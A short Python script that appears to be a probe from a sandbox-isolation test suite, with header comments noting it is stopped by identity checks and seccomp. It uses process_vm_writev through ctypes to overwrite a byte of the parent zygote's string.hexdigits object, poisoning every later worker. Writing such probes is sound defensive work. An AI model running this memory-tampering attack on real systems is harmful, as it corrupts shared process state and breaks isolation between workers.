# tries: to write into the zygote's memory, so that every later worker starts poisoned
# stopped-by: identity, seccomp
# wins: state
# breaks: launcher
import ctypes
import os
import string

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


new = ctypes.create_string_buffer(b"X", 1)
# Behind the header of a compact ASCII string; the zygote has it at the same address.
mine, theirs = Vector(ctypes.addressof(new), 1), Vector(id(string.hexdigits) + 48 + 21, 1)
libc.process_vm_writev(
    os.getppid(),
    ctypes.byref(mine),
    ctypes.c_ulong(1),
    ctypes.byref(theirs),
    ctypes.c_ulong(1),
    ctypes.c_ulong(0),
)
